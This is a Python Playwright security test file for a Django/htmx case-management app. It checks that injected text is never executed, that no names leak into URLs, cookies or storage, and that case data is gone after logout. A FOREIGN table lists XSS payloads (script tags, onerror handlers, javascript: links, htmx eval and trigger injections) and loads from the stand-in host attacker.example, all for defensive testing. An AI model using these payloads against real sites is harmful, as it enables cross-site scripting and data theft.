"""What an attacker's text does in a real browser, and what the browser still knows of a case after logout."""

from collections.abc import Callable
from uuid import uuid4

import pytest
from django.conf import settings
from django.contrib.sessions.models import Session
from playwright.sync_api import Dialog, Page, Request, expect

from cases.enums import DutyOutcome, NoteNature, ReferralForm
from cases.log import drafts, writer
from cases.models import Case, User
from cases.sharing import actions
from guide.steps import STEPS
from tests.attack.naughty import MARK, MARKUP
from tests.browser.conftest import Town, Watch
from tests.browser.hand import Hand
from tests.browser.stories import OFFENDER, VICTIM, mild
from tests.figures import LONG

LogIn = Callable[[Page, User], None]
EVERYTHING = "\n".join(MARKUP.values())
# On one line, and short enough for every field.
LINES = [text for text in MARKUP.values() if "\n" not in text]


@pytest.fixture
def case(town: Town) -> Case:
    return town.case({"afdaek": mild()})


def addresses(case: Case) -> list[str]:
    """Every page of the case."""
    place = f"/sager/{case.public_id}/"
    pages = ["", "plan/", "log/", "log/notat/", "log/2/ret/", "papirer/", "kort/?navne=alle", "samtaler/", "resume/"]
    pages += ["henvis/", "adgang/", "status/", "ansvarlig/"]
    sections = [f"trin/{step.key}/{section.key}/" for step in STEPS for section in step.sections]
    return [f"{place}{page}" for page in (*pages, *sections, "nu/", "foerst/fare/")]


# --- Injected text ---


@pytest.fixture
def poisoned(town: Town) -> Case:
    """A case in which every text holds what somebody might inject."""
    by = town.staff
    injected = [{"name": text, "note": text, "roles": ["victim"], "age_band": "adult"} for text in LINES]
    people = [*mild()["people"], *injected]
    texts = {"what_happened": LINES[1], "done_already": EVERYTHING, "own_words": EVERYTHING, "where": LINES[0]}
    answers = {**mild(), **texts, "people": people}
    case = town.case({"afdaek": answers})
    writer.add_note(
        case=case,
        by=by,
        nature=NoteNature.FACT,
        happened_at=None,
        who=LINES[2],
        where=LINES[3],
        text=EVERYTHING,
        submission_id=uuid4(),
    )
    writer.add_correction(case=case, by=by, corrects=2, text=EVERYTHING, submission_id=uuid4())
    writer.skip_step(case=case, by=by, step="stop", title="Stop", reason=EVERYTHING, submission_id=uuid4())
    writer.tick_duty(
        case=case,
        by=by,
        key="contact_police",
        title=LINES[4],
        outcome=DutyOutcome.DONE,
        reason=EVERYTHING,
        submission_id=uuid4(),
    )
    actions.refer(
        case=case,
        by=by,
        form=ReferralForm.NAMED,
        purpose=EVERYTHING,
        message=EVERYTHING,
        included=[],
        submission_id=uuid4(),
    )
    draft = {"press": ["ja"], "press_plan": [EVERYTHING]}
    drafts.save_draft(case=case, by=town.leader, step="behandl", data=draft, base_seq=0)
    return case


class Alarm:
    """Notes every sign that injected text has been obeyed. What the policy stopped, the watch fails on by itself."""

    def __init__(self, page: Page) -> None:
        self.page, self.raised = page, list[str]()
        page.on("dialog", self._dialog)
        page.on("request", self._request)

    def look(self) -> None:
        """Is anything of it an element or an attribute that the browser would obey?"""
        alive = self.page.evaluate(
            """mark => [...document.querySelectorAll("*")].flatMap(element => [...element.attributes]
                 .filter(one => one.name !== "value" && one.name !== "name" && (one.name + one.value).includes(mark))
                 .map(one => element.tagName + " " + one.name))""",
            MARK,
        )
        self.raised += [f"{self.page.url}: {one}" for one in alive]

    def _dialog(self, dialog: Dialog) -> None:
        self.raised.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def _request(self, request: Request) -> None:
        if MARK in request.url:
            self.raised.append(f"request {request.url}")


def test_pages_of_a_case_obey_no_injected_text_and_leave_nothing_outside_it(
    page: Page, town: Town, poisoned: Case, log_in: LogIn
) -> None:
    """Outside it: addresses, titles, cookies, stores and names of files, after every page of the case."""
    log_in(page, town.leader)
    page.add_init_script(f"window.{MARK} = () => alert('obeyed')")
    alarm = Alarm(page)
    told: list[str] = []
    page.on("request", lambda request: told.append(request.url))
    shown = named = 0
    for address in addresses(poisoned):
        answer = page.goto(address)
        assert answer is not None
        assert answer.status == 200, address
        page.evaluate("document.querySelectorAll('main details').forEach(fold => { fold.open = true; })")
        alarm.look()
        content = page.content()
        shown += MARK in content
        named += VICTIM in content
        told.append(page.title())
    assert alarm.raised == []
    assert shown >= 6, "the text is there to be obeyed"
    assert named >= 4, "the names are there to be left"
    assert_nothing_left(page, poisoned, told, (VICTIM, OFFENDER, town.staff.name))


def assert_nothing_left(page: Page, case: Case, told: list[str], people: tuple[str, ...]) -> None:
    """Fail when what was ``told`` outside the pages, or a PDF's name, cookie or store, names one of the people."""
    names = [word.lower() for person in people for word in person.split() if len(word) > 3]
    page.goto(f"/sager/{case.public_id}/resume/")
    for link in page.get_by_role("link", name="PDF").all():
        with page.expect_download() as coming:
            link.click()
        told.append(coming.value.suggested_filename)
    cookies = page.context.cookies()
    told += [cookie["value"] for cookie in cookies]
    assert [text for text in told if any(name in text.lower() for name in names)] == []
    assert {(cookie["name"], cookie["httpOnly"]) for cookie in cookies} <= {
        (settings.SESSION_COOKIE_NAME, True),
        (settings.CSRF_COOKIE_NAME, True),
        (settings.DEVICE_COOKIE_NAME, True),
    }
    stores = "async () => [localStorage.length, sessionStorage.length, (await indexedDB.databases()).length]"
    assert page.evaluate(stores) == [0, 0, 0]
    assert page.evaluate("document.cookie") == ""


def test_injected_text_in_fragments(live_hand: Hand, town: Town, poisoned: Case, log_in: LogIn) -> None:
    """What htmx swaps in: an answer's fragment, a new row, a search with its own words in the field."""
    page = live_hand.page
    log_in(page, town.leader)
    page.add_init_script(f"window.{MARK} = () => alert('obeyed')")
    alarm = Alarm(page)
    live_hand.go(f"/sager/{poisoned.public_id}/trin/afdaek/fortalt/")
    live_hand.write("Fortæl det kort", EVERYTHING)
    with page.expect_response(lambda response: response.request.method == "POST"):
        live_hand.choose("Hvem har fortalt det?", "En anden elev")
    live_hand.waits_for_questions()
    alarm.look()
    page.goto(f"/sager/{poisoned.public_id}/trin/afdaek/personer/")
    live_hand.add_row("Personer i sagen", "Tilføj en person")
    alarm.look()
    page.goto(f"/sager/{poisoned.public_id}/log/")
    page.locator("input[name=q]").fill(LINES[0])
    with page.expect_navigation():
        page.locator("input[name=q]").press("Enter")
    expect(page.locator("input[name=q]")).to_have_value(LINES[0])
    alarm.look()
    assert alarm.raised == []


# What an attacker would write into a page, should a text ever reach it as markup.
FOREIGN = {
    "script": f"<script>window.{MARK}_ran = 1</script>",
    "frame with a script": f"<iframe srcdoc='<script>parent.{MARK}_ran = 1</script>'></iframe>",
    "handler": f"<img src='/nowhere.png' onerror='window.{MARK}_ran = 1'>",
    "address of a script": f"<a id='planted' href='javascript:void(window.{MARK}_ran = 1)'>x</a>",
    "script from elsewhere": "<script src='https://attacker.example/x.js'></script>",
    "picture from elsewhere": "<img src='https://attacker.example/x.png'>",
    "style": "<style>@import 'https://attacker.example/x.css';</style>",
    "form to elsewhere": "<form action='https://attacker.example/'><button id='planted'>x</button></form>",
    "htmx handler": f"<div data-hx-on--load='window.{MARK}_ran = 1' hx-on::load='window.{MARK}_ran = 1'></div>",
    "htmx values": f"<div hx-get='/akut/' hx-trigger='load' hx-vals='js:{{a: window.{MARK}_ran = 1}}'></div>",
    "htmx filter": f"<div hx-get='/akut/' hx-trigger='load[window.{MARK}_ran = 1]'></div>",
    "htmx to elsewhere": "<div hx-get='https://attacker.example/' hx-trigger='load'></div>",
}
PLANT = """html => {
  const place = document.createElement("div");
  place.append(document.createRange().createContextualFragment(html));
  document.querySelector("main").append(place);
  htmx.process(place);
  const planted = document.getElementById("planted");
  if (planted) planted.click();
}"""


def test_markup_that_got_through_is_not_obeyed(page: Page, town: Town, case: Case, log_in: LogIn, watch: Watch) -> None:
    """The second wall, with the first one down: the policy and the settings of htmx."""
    watch.allow("Content Security Policy|nowhere.png|404|htmx:|hx-|eval|attacker.example")
    foreign: list[Request] = []
    page.on("request", lambda request: foreign.append(request) if "attacker.example" in request.url else None)
    log_in(page, town.staff)
    obeyed = []
    for name, markup in FOREIGN.items():
        page.goto(f"/sager/{case.public_id}/")
        page.evaluate(PLANT, markup)
        page.evaluate("() => new Promise(done => setTimeout(done, 200))")
        if page.evaluate(f"window.{MARK}_ran") is not None or not page.url.endswith(f"/sager/{case.public_id}/"):
            obeyed.append(name)
    assert obeyed == []
    assert [request.url for request in foreign if request.failure != "csp"] == [], (
        "only tried, and stopped by the policy"
    )


def test_the_watch_sees_what_breaks_the_policy(page: Page, town: Town, case: Case, log_in: LogIn, watch: Watch) -> None:
    """Every browser test fails on a violation: this is how it would."""
    log_in(page, town.staff)
    page.goto(f"/sager/{case.public_id}/")
    assert watch.problems == []
    with page.expect_console_message(lambda message: "Content Security Policy" in message.text):
        page.evaluate(PLANT, FOREIGN["script"])
    assert any("Content Security Policy" in problem for problem in watch.problems)
    watch.allow("Content Security Policy")


def test_the_watch_sees_what_is_left_in_the_browser(page: Page, watch: Watch) -> None:
    page.goto("/")
    page.evaluate("localStorage.setItem('navn', 'Alma')")
    with pytest.raises(AssertionError, match="Alma"):
        watch.check()
    page.evaluate("localStorage.clear()")


# --- What is left ---


def test_back_after_logout_shows_no_case(hand: Hand, town: Town, case: Case, log_in: LogIn) -> None:
    page = hand.page
    log_in(page, town.staff)
    for address in ("", "log/", "resume/"):
        page.goto(f"/sager/{case.public_id}/{address}")
    expect(page.get_by_text(VICTIM).first).to_be_visible()
    page.locator(".user-menu summary").click()
    page.get_by_role("button", name="Log ud").click()
    expect(page).to_have_url("/")
    for _step in range(3):
        page.go_back()
        expect(page.get_by_role("button", name="Log ind", exact=True)).to_be_visible()
        assert VICTIM not in page.content()
        assert case.reference not in page.content()


# --- Expiry while typing ---

ODD = "  Æblegrød på åen,\n\n\tto mellemrum:  – »citat« <b>&amp;</b> 🙂 e\u0301 \u202etil højre\u202c 漢字\\n  "
"""What a form might do to a text shows in it: blanks at both ends, empty lines, a tab, what looks like markup."""


# In the suite one form with JavaScript and the other without; `script/prove pages` does both both ways.
NOTE = ("log/notat/", "Hvad skete der?", "Skriv en hændelse", "Gem i loggen")
CORRECTION = ("log/2/ret/", "Hvad er det rigtige?", "Ret nr. 2", "Gem rettelsen")


@pytest.mark.parametrize(
    ("hand", "form"),
    [
        pytest.param("javascript", NOTE, id="note-javascript"),
        pytest.param("plain", CORRECTION, id="correction-plain"),
        *([("plain", NOTE), ("javascript", CORRECTION)] if LONG else []),
    ],
    indirect=["hand"],
)
def test_text_of_an_expired_form_comes_back_byte_for_byte(
    hand: Hand, town: Town, case: Case, log_in: LogIn, watch: Watch, form: tuple[str, str, str, str]
) -> None:
    page, (address, label, heading, button) = hand.page, form
    watch.allow("403")
    log_in(page, town.staff)
    hand.go(f"/sager/{case.public_id}/{address}", heading)
    page.get_by_label(label).fill(ODD)
    Session.objects.all().delete()
    hand.press(hand.button(button))
    hand.arrives("Du er ikke logget ind")
    kept = page.locator("textarea").filter(has_text="Æblegrød")
    expect(kept).to_have_value(ODD)
